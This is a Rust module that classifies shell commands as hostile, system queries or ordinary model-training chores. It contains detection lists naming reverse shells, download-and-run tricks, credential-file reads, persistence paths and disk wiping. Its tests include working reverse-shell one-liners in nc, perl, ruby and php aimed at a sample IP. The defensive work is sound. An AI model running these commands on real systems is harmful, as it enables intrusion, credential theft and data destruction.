//! What a shell command is for, as far as its words tell: a look around, a chore of anybody who trains models, or an attack.
//!
//! Not a shell: a command is judged by its words and by marks in its text. A command that hides what it does is simply not on
//! the lists of harmless ones.

/// What a command is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Command {
    /// Does harm, and how.
    Hostile(&'static str),
    /// Asks the machine about itself.
    Query,
    /// Installs, fetches, unpacks, trains: what scripts around models do.
    Chore,
    /// Anything else.
    Other,
}

/// Marks of harm: every text of one entry stands in the command, compared without case and with single blanks.
const MARKS: &[(&[&str], &str)] = &[
    (&["/dev/tcp/"], "opens a shell to another machine"),
    (&["/dev/udp/"], "opens a shell to another machine"),
    (&[" nc -e "], "opens a shell to another machine"),
    (&["mkfs."], "destroys a disk"),
    (&["ncat ", " -e "], "opens a shell to another machine"),
    (&["ncat ", "--exec"], "opens a shell to another machine"),
    (&["socat ", "exec:"], "opens a shell to another machine"),
    (&["mkfifo ", "/bin/sh"], "opens a shell to another machine"),
    (&["bash -i ", ">&"], "opens a shell to another machine"),
    (&["socket", "subprocess", "dup2"], "opens a shell to another machine"),
    (&["pty.spawn"], "opens a shell to another machine"),
    (&["ssh ", " -r ", "localhost"], "opens a tunnel into this machine"),
    (&["iex", "downloadstring"], "downloads code and runs it"),
    (&["invoke-expression", "downloadstring"], "downloads code and runs it"),
    (&["iex", "invoke-webrequest"], "downloads code and runs it"),
    (&["iwr ", "| iex"], "downloads code and runs it"),
    (&["irm ", "| iex"], "downloads code and runs it"),
    (&["powershell", " -enc"], "runs an encoded command"),
    (&["powershell", "downloadstring"], "downloads code and runs it"),
    (&["powershell", "downloadfile"], "downloads code and runs it"),
    (&["powershell", "iex"], "downloads code and runs it"),
    (&["powershell", "-w hidden"], "runs a command that nobody sees"),
    (&["powershell", "-windowstyle hidden"], "runs a command that nobody sees"),
    (&["certutil", "-urlcache"], "downloads code and runs it"),
    (&["certutil", "-decode"], "decodes a hidden program"),
    (&["bitsadmin", "/transfer"], "downloads code and runs it"),
    (&["mshta ", "http"], "downloads code and runs it"),
    (&["regsvr32", "/i:"], "downloads code and runs it"),
    (&["rundll32", "javascript:"], "downloads code and runs it"),
    (&["exec(", "b64decode"], "runs a hidden program"),
    (&["exec(", "urlopen"], "downloads code and runs it"),
    (&["exec(", "requests.get"], "downloads code and runs it"),
    (&["eval(", "b64decode"], "runs a hidden program"),
    (&["dd ", "of=/dev/sd"], "destroys a disk"),
    (&["dd ", "of=/dev/nvme"], "destroys a disk"),
    (&["> /dev/sda"], "destroys a disk"),
    (&["shred ", "/dev/"], "destroys a disk"),
    (&[":(){"], "starts processes without end"),
    (&["vssadmin", "delete"], "deletes backups"),
    (&["wbadmin", "delete"], "deletes backups"),
    (&["crontab -"], "makes something start by itself later"),
    (&["| crontab"], "makes something start by itself later"),
    (&["/etc/cron"], "makes something start by itself later"),
    (&["/var/spool/cron"], "makes something start by itself later"),
    (&["systemctl enable"], "makes something start by itself later"),
    (&["launchctl load"], "makes something start by itself later"),
    (&["launchagents"], "makes something start by itself later"),
    (&["/etc/systemd/system"], "makes something start by itself later"),
    (&["/etc/init.d"], "makes something start by itself later"),
    (&["/etc/rc.local"], "makes something start by itself later"),
    (&[".config/autostart"], "makes something start by itself later"),
    (&["schtasks", "/create"], "makes something start by itself later"),
    (&["reg add", "\\run"], "makes something start by itself later"),
    (&["start menu", "startup"], "makes something start by itself later"),
    (&["authorized_keys"], "lets somebody log in"),
    (&["useradd "], "lets somebody log in"),
    (&["adduser "], "lets somebody log in"),
    (&["net user", "/add"], "lets somebody log in"),
    (&["/etc/sudoers"], "gives somebody the rights of root"),
    (&["chmod u+s"], "gives somebody the rights of root"),
    (&["chmod 4755"], "gives somebody the rights of root"),
    (&["/etc/ld.so.preload"], "puts itself into every program"),
    (&["/etc/shadow"], "reads passwords"),
    (&["/etc/passwd"], "reads the accounts of the machine"),
    (&[".ssh/id_"], "reads keys"),
    (&[".aws/credentials"], "reads keys"),
    (&[".kube/config"], "reads keys"),
    (&[".git-credentials"], "reads keys"),
    (&["huggingface/token"], "reads keys"),
    (&["169.254.169.254"], "asks the cloud for the machine's keys"),
    (&["metadata.google.internal"], "asks the cloud for the machine's keys"),
    (&["xmrig"], "mines coins"),
    (&["stratum+tcp"], "mines coins"),
    (&["history -c"], "hides its traces"),
    (&["unset histfile"], "hides its traces"),
    (&["createobject", "wscript.shell"], "starts programs from a script"),
    (&["activexobject", "wscript.shell"], "starts programs from a script"),
    (&["setenforce 0"], "switches protection off"),
    (&["ufw disable"], "switches protection off"),
    (&["iptables -f"], "switches protection off"),
    (&["set-mppreference"], "switches protection off"),
    (&["git config", "core.hookspath"], "changes what git runs"),
    (&["git config", "credential.helper"], "changes who gets the passwords of git"),
    (&["nsenter ", "--target 1"], "leaves its container"),
    (&["/var/run/docker.sock"], "leaves its container"),
];

/// Files that a shell reads when it starts; writing to them is a way to stay.
const SHELL_STARTS: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".zshrc",
    ".zprofile",
    ".profile",
    "/etc/profile",
    ".bash_login",
    ".zshenv",
];

/// Programs that bring data in.
const FETCHERS: &[&str] = &[
    "curl", "wget", "fetch", "aria2c", "base64", "base32", "xxd", "openssl", "nc", "ncat", "netcat",
    "telnet", "lynx", "iwr", "irm",
];

/// Programs that connect to other machines and can hand the connection to a program of their choice, and the options for it.
const CONNECTORS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "nc.exe", "ncat.exe"];
const HANDED_TO: &[&str] = &["--exec", "--sh-exec", "--lua-exec"];

/// Shells, as what a connection is handed to.
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "fish",
    "csh",
    "tcsh",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
];

/// Interpreters that take a program as a word.
struct Inline {
    programs: &'static [&'static str],
    /// Last letters of the option before the program; without any, every word can be one.
    letters: &'static str,
    /// Names whose mention is enough.
    mentions: &'static [&'static str],
    /// Names that start programs or connections when they are called.
    calls: &'static [&'static str],
}

const INLINE: &[Inline] = &[
    Inline {
        programs: &["perl"],
        letters: "e",
        mentions: &["io::socket"],
        calls: &["exec", "system", "socket", "qx"],
    },
    Inline {
        programs: &["ruby", "jruby"],
        letters: "e",
        mentions: &["tcpsocket", "open3"],
        calls: &["exec", "system", "spawn", "popen"],
    },
    Inline {
        programs: &["php"],
        letters: "r",
        mentions: &["fsockopen", "proc_open", "shell_exec", "passthru", "pcntl_exec"],
        calls: &["exec", "system", "popen", "eval"],
    },
    Inline {
        programs: &["node", "nodejs", "bun", "deno"],
        letters: "ep",
        mentions: &["child_process", "spawn_sync", "deno.command", "deno.run", "bun.spawn"],
        calls: &[],
    },
    Inline { programs: &["lua", "luajit"], letters: "e", mentions: &["os.execute", "io.popen"], calls: &[] },
    Inline {
        programs: &["awk", "gawk", "mawk", "nawk"],
        letters: "",
        mentions: &["/inet/"],
        calls: &["system"],
    },
];

/// Programs that run what they are given.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "powershell",
    "iex",
    "source",
    "eval",
    "osascript",
];

/// Programs that only tell about the machine.
const QUERIES: &[&str] = &[
    "nvidia-smi",
    "nvcc",
    "rocm-smi",
    "rocminfo",
    "amd-smi",
    "hipconfig",
    "npu-smi",
    "xpu-smi",
    "uname",
    "lscpu",
    "lsb_release",
    "sw_vers",
    "nproc",
    "free",
    "df",
    "sysctl",
    "system_profiler",
    "arch",
    "machine",
    "mach",
    "isainfo",
    "psrinfo",
    "oslevel",
    "getconf",
    "sysconf",
    "fc-list",
    "pkg-config",
    "which",
    "where",
    "neuron-ls",
    "vulkaninfo",
];

/// What `git` is asked without changing anything.
const GIT_QUERIES: &[&str] = &[
    "rev-parse",
    "describe",
    "status",
    "log",
    "diff",
    "branch",
    "show",
    "remote",
    "ls-files",
    "rev-list",
    "tag",
    "ls-remote",
    "--version",
    "symbolic-ref",
    "name-rev",
];

/// Programs of ordinary chores around models.
const CHORES: &[&str] = &[
    "pip",
    "pip3",
    "conda",
    "mamba",
    "uv",
    "poetry",
    "apt",
    "apt-get",
    "brew",
    "yum",
    "dnf",
    "npm",
    "git",
    "git-lfs",
    "mkdir",
    "cd",
    "ls",
    "pwd",
    "cp",
    "mv",
    "tar",
    "unzip",
    "gunzip",
    "zip",
    "wget",
    "curl",
    "aria2c",
    "gdown",
    "huggingface-cli",
    "hf",
    "python",
    "python3",
    "torchrun",
    "accelerate",
    "deepspeed",
    "ffmpeg",
    "ffprobe",
    "sox",
    "cmake",
    "make",
    "ninja",
    "meson",
    "gcc",
    "g++",
    "clang",
    "cat",
    "head",
    "wc",
    "tree",
    "du",
    "export",
    "env",
    "jupyter",
    "tensorboard",
    "wandb",
    "kaggle",
    "streamlit",
    "gradio",
    "nvprof",
    "rsync",
    "clear",
    "cls",
    "color",
    "date",
    "sleep",
    "docker",
    "sudo",
    "time",
    "bash",
    "sh",
    "protoc",
    "set",
    "source",
    "test",
    "ollama",
    "cargo",
    "llama-cli",
    "llama-server",
];

/// Judges a command as it would be given to a shell, or the Python text of its list of words.
pub fn judge(text: &str) -> Command {
    let plain = normal(text);
    if let Some(why) = hostile(&plain) {
        return Command::Hostile(why);
    }
    let words: Vec<&str> = plain.split(' ').filter(|word| !word.is_empty()).collect();
    let joined = plain.contains([';', '|', '&', '`', '$', '>', '<', '\n']);
    let (Some(first), second) = (words.first(), words.get(1).copied().unwrap_or_default()) else {
        return Command::Other;
    };
    let program = first.rsplit(['/', '\\']).next().unwrap_or(first);
    let asks = QUERIES.contains(&program)
        || matches!(program, "git" if GIT_QUERIES.contains(&second))
        || (words.len() == 2 && matches!(second, "--version" | "-v" | "version"));
    let inline =
        words.iter().any(|word| matches!(*word, "-c" | "-e" | "-m")) && INTERPRETERS.contains(&program);
    // A shell without a script waits for whoever is connected to it.
    let waits =
        INTERPRETERS.contains(&program) && words.iter().skip(1).all(|word| matches!(*word, "-i" | "-l"));
    match (asks && !joined, CHORES.contains(&program) && !inline && !waits) {
        (true, _) => Command::Query,
        (false, true) => Command::Chore,
        _ => Command::Other,
    }
}

/// Lower case, lists of words as words, single blanks.
fn normal(text: &str) -> String {
    let unlisted: String = if text.starts_with(['[', '(']) {
        text.chars()
            .map(|c| if matches!(c, '[' | ']' | '(' | ')' | ',' | '\'' | '"') { ' ' } else { c })
            .collect()
    } else {
        text.trim_matches(['\'', '"']).to_owned()
    };
    unlisted.to_lowercase().split_whitespace().collect::<Vec<_>>().join(" ")
}

fn hostile(plain: &str) -> Option<&'static str> {
    let marked = MARKS.iter().find(|(marks, _)| marks.iter().all(|mark| plain.contains(mark)));
    if let Some((_, why)) = marked {
        return Some(why);
    }
    if feeds_an_interpreter(plain) {
        return Some("downloads or decodes code and runs it");
    }
    if hands_over_a_shell(plain) {
        return Some("opens a shell to another machine");
    }
    if inline_program(plain) {
        return Some("runs an inline program that starts others");
    }
    if SHELL_STARTS.iter().any(|file| plain.contains(file)) && (plain.contains('>') || plain.contains("tee "))
    {
        return Some("makes something start with every shell");
    }
    if super::effects::is_collector(plain).is_some() && plain.contains(['$', '|', '`', '@']) {
        return Some("sends data to where anybody can collect it");
    }
    if sends_secrets(plain) {
        return Some("sends keys or the environment away");
    }
    if unfolds(plain) {
        return Some("hides the program that it runs");
    }
    deletes_everything(plain).then_some("deletes everything")
}

/// `env | curl … -d @-`, `curl -d "$(env)"`, `tar cz ~/.ssh | nc …`.
fn sends_secrets(plain: &str) -> bool {
    const SENDERS: &[&str] =
        &["curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "rsync", "ftp", "sendmail"];
    const ENVIRONMENT: &[&str] = &["$(env)", "$(printenv)", "`env`", "`printenv`", "/proc/self/environ"];
    const KEYS: &[&str] =
        &["~/.ssh", "$home/.ssh", "/.ssh/", "~/.aws", "/.aws/", "~/.netrc", ".git-credentials", "/.kube/"];
    let mut words = plain.split([' ', '|', ';', '&', '(', ')', '"', '\'', '`', '$']);
    let sends = words.any(|word| SENDERS.contains(&word));
    let piped = plain.starts_with("env |") || plain.starts_with("printenv |") || plain.contains("; env |");
    sends && (piped || ENVIRONMENT.iter().chain(KEYS).any(|mark| plain.contains(mark)))
}

/// A program that is put together, turned round or decoded on its way to an interpreter.
fn unfolds(plain: &str) -> bool {
    const UNFOLDERS: &[&str] = &["rev", "tr", "base64", "base32", "xxd", "uudecode", "gunzip", "zcat"];
    let parts: Vec<&str> = plain.split('|').map(str::trim).collect();
    let first = |part: &str| part.split([' ', ';', '&']).next().unwrap_or_default().to_owned();
    let into_interpreter = parts.len() > 1
        && parts.last().is_some_and(|last| {
            let program = first(last);
            let name = program.rsplit('/').next().unwrap_or(&program);
            program.starts_with('$') || INTERPRETERS.contains(&name) && !name.starts_with("python")
        });
    let unfolding = |part: &&str| UNFOLDERS.contains(&first(part).as_str()) || part.contains("://");
    into_interpreter && parts.iter().any(unfolding)
        || plain.contains("$(printf '\\x")
        || plain.contains("$(printf \"\\x")
        || plain.contains("${ifs}")
}

/// `curl … | sh`, `sh -c "$(curl …)"`, `sh <(curl …)`.
fn feeds_an_interpreter(plain: &str) -> bool {
    let program = |part: &str| {
        let ends = [' ', '(', ')', '"', '\'', '`', '{', '}', '[', ']', ',', ';', '\\', '<'];
        let mut words = part.split(ends).filter(|word| !word.is_empty());
        let word =
            words.find(|word| !matches!(*word, "sudo" | "env" | "nohup" | "exec") && !word.starts_with('-'));
        word.unwrap_or_default().rsplit('/').next().unwrap_or_default().to_owned()
    };
    let mut fed = false;
    for part in plain.split('|') {
        if fed && INTERPRETERS.contains(&program(part).as_str()) {
            return true;
        }
        fed |= part
            .split([' ', ';', '&', '(', '`', '/', '"', '\'', '=', ','])
            .any(|word| FETCHERS.contains(&word));
    }
    plain
        .split("$(")
        .chain(plain.split("<("))
        .chain(plain.split('`'))
        .skip(1)
        .any(|inner| matches!(program(inner).as_str(), "curl" | "wget" | "iwr"))
        && INTERPRETERS.contains(&program(plain).as_str())
}

/// The name of a program, without quotes and folder.
fn named(word: &str) -> &str {
    let word = word.trim_matches(['"', '\'', '`', '(', ')', '$', '{', '}']);
    word.rsplit(['/', '\\']).next().unwrap_or(word)
}

/// `nc -e /bin/sh HOST PORT`, `ncat HOST PORT --sh-exec 'bash -i'`.
fn hands_over_a_shell(plain: &str) -> bool {
    plain.split(['|', ';', '&']).any(|part| {
        let words: Vec<&str> = part.split_whitespace().collect();
        let Some(at) = words.iter().position(|word| CONNECTORS.contains(&named(word))) else { return false };
        let options = words.get(at..).unwrap_or_default();
        let pairs = options.iter().zip(options.iter().skip(1).chain([&""]));
        pairs.into_iter().any(|(option, next)| {
            let (option, given) = option.split_once('=').unwrap_or((option, next));
            let short = option.strip_prefix('-').is_some_and(|letters| {
                letters.ends_with(['e', 'c']) && letters.chars().all(|letter| letter.is_ascii_alphabetic())
            });
            HANDED_TO.contains(&option) || short && SHELLS.contains(&named(given))
        })
    })
}

/// `perl -e '…exec("/bin/sh")…'`, `awk 'BEGIN{system("…")}'`.
fn inline_program(plain: &str) -> bool {
    INLINE.iter().any(|Inline { programs, letters, mentions, calls }| {
        let mut words = plain.split_whitespace();
        let starts = words.by_ref().any(|word| programs.contains(&named(word)));
        let given = letters.is_empty()
            || words.by_ref().any(|word| {
                let letter = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
                letter.is_some_and(|rest| rest.ends_with(|last| letters.contains(last)))
                    || matches!(word, "--eval" | "--print" | "--run" | "eval")
            });
        let program = words.collect::<Vec<_>>().join(" ");
        starts
            && given
            && (mentions.iter().any(|name| program.contains(name))
                || calls.iter().any(|name| calls_it(&program, name)))
    })
}

/// Whether a program calls a function of this name with something: `exec("sh")`, `exec 'sh'`, not `system("")`, which only
/// empties buffers in awk, and not a word in a pattern.
fn calls_it(program: &str, name: &str) -> bool {
    let word = |letter: char| letter.is_ascii_alphanumeric() || letter == '_';
    program.match_indices(name).any(|(at, _)| {
        let before = program.get(..at).unwrap_or_default();
        let after = program.get(at.saturating_add(name.len())..).unwrap_or_default();
        // A method of that name belongs to something else (`pattern.exec(…)`, `$database->exec(…)`), unless the language itself owns it.
        let owned = ["kernel.", "process.", "io."].iter().any(|owner| before.ends_with(owner));
        let method = before.ends_with("->") || before.ends_with('.') && !owned;
        let whole = !before.ends_with(word) && !after.starts_with(word) && !before.ends_with("s/") && !method;
        let given = after.trim_start();
        let given = given.strip_prefix('(').map_or(given, str::trim_start);
        let quoted = given.starts_with(['"', '\'', '`', '{', '$', '[', '\\']) || after.starts_with('(');
        whole && quoted && !given.starts_with("\"\")") && !given.starts_with(')')
    })
}

/// `rm -rf` on the root, the home folder or all of them.
fn deletes_everything(plain: &str) -> bool {
    plain.split([';', '&', '|', '\n']).any(|part| {
        let words: Vec<&str> = part.split_whitespace().collect();
        let deletes = words.iter().position(|word| matches!(*word, "rm" | "/bin/rm"));
        deletes.is_some_and(|at| {
            let rest = words.get(at..).unwrap_or_default();
            let recursive =
                rest.iter().any(|word| word.starts_with('-') && word.contains('r') || *word == "--recursive");
            let all = |word: &&str| {
                matches!(
                    word.trim_matches(['"', '\'']),
                    "/" | "/*"
                        | "~"
                        | "~/"
                        | "~/*"
                        | "$home"
                        | "$home/"
                        | "$home/*"
                        | "${home}"
                        | "/home"
                        | "/home/*"
                        | "/etc"
                        | "/usr"
                        | "/var"
                        | "/boot"
                        | "--no-preserve-root"
                        | "/root"
                )
            };
            recursive && rest.iter().any(all)
        })
    })
}

/// Why writing to this path is an attack, if it is one.
pub fn hostile_path(path: &str) -> Option<&'static str> {
    let path = path.trim_matches(['\'', '"']).replace('\\', "/").to_lowercase();
    let name = path.rsplit('/').next().unwrap_or_default();
    let marks: &[(&str, &str)] = &[
        ("authorized_keys", "lets somebody log in"),
        (".ssh/", "lets somebody log in"),
        ("/etc/cron", "makes something start by itself later"),
        ("/var/spool/cron", "makes something start by itself later"),
        ("/etc/systemd", "makes something start by itself later"),
        (".config/systemd", "makes something start by itself later"),
        (".config/autostart", "makes something start by itself later"),
        ("/etc/init.d", "makes something start by itself later"),
        ("/etc/rc.local", "makes something start by itself later"),
        ("library/launchagents", "makes something start by itself later"),
        ("library/launchdaemons", "makes something start by itself later"),
        ("start menu/programs/startup", "makes something start by itself later"),
        ("/etc/sudoers", "gives somebody the rights of root"),
        ("/etc/ld.so.preload", "puts itself into every program"),
        ("/etc/passwd", "lets somebody log in"),
        ("/etc/hosts", "sends addresses elsewhere"),
        ("site-packages", "changes installed packages"),
        ("dist-packages", "changes installed packages"),
        (".git/hooks", "changes what git runs"),
        ("/proc/self/mem", "changes a running program"),
        (".ipython/profile_default/startup", "makes something start by itself later"),
    ];
    let names: &[&str] = &["sitecustomize.py", "usercustomize.py"];
    let starts =
        SHELL_STARTS.iter().any(|file| *file == name || file.starts_with('/') && path.starts_with(file));
    marks.iter().find(|(mark, _)| path.contains(mark)).map(|(_, why)| *why).or_else(|| {
        (names.contains(&name) || name.rsplit('.').next() == Some("pth") && path.contains("python") || starts)
            .then_some("makes something start by itself later")
    })
}

/// Whether deleting this path deletes what is not the artifact's own.
pub fn is_everything(path: &str) -> bool {
    let path = path.trim_matches(['\'', '"']);
    matches!(
        path.trim_end_matches(['/', '*']),
        "" | "~" | "$HOME" | "/home" | "/etc" | "/usr" | "/var" | "/root" | "C:" | "C:\\"
    ) && !path.is_empty()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells_over_the_network_and_inline_programs() {
        for hostile in [
            "nc -e /bin/sh 1.2.3.4 4444",
            "ncat 1.2.3.4 4444 --sh-exec='bash -i'",
            "telnet 1.2.3.4 4444 | /bin/sh | telnet 1.2.3.4 4445",
            "perl -e 'use Socket;$i=\"1.2.3.4\";exec(\"/bin/sh -i\");'",
            "ruby -rsocket -e 'exec(\"/bin/sh\")'",
            "ruby -rsocket -e 'c=TCPSocket.new(\"1.2.3.4\",4444);while(l=c.gets);IO.popen(l,\"r\"){|i|c.print i.read}end'",
            "php -r '$s=fsockopen(\"1.2.3.4\",4444);exec(\"/bin/sh -i <&3 >&3\");'",
            "node -e 'require(\"child_process\").exec(\"id\")'",
            "lua -e 'os.execute(\"id\")'",
            "awk 'BEGIN{system(\"id\")}'",
        ] {
            assert!(matches!(judge(hostile), Command::Hostile(_)), "{hostile}");
        }
        for ordinary in [
            "nc -z localhost 8080",
            "nc -c example.com 443",
            "perl -pi -e 's/exec /run /' file",
            "perl -ne 'print if /system/' log",
            "awk '{print $1; system(\"\")}' log",
            "awk '{print $2}' system.log",
            "node -e 'console.log(1)'",
            "node -p '/v(.*)/.exec(process.version)[1]'",
            "php -r '$base->exec(\"VACUUM\");'",
            "perl -e 'alarm shift; exec @ARGV' 10 make",
            "ruby -e 'puts 1'",
        ] {
            assert!(!matches!(judge(ordinary), Command::Hostile(_)), "{ordinary}");
        }
    }
}
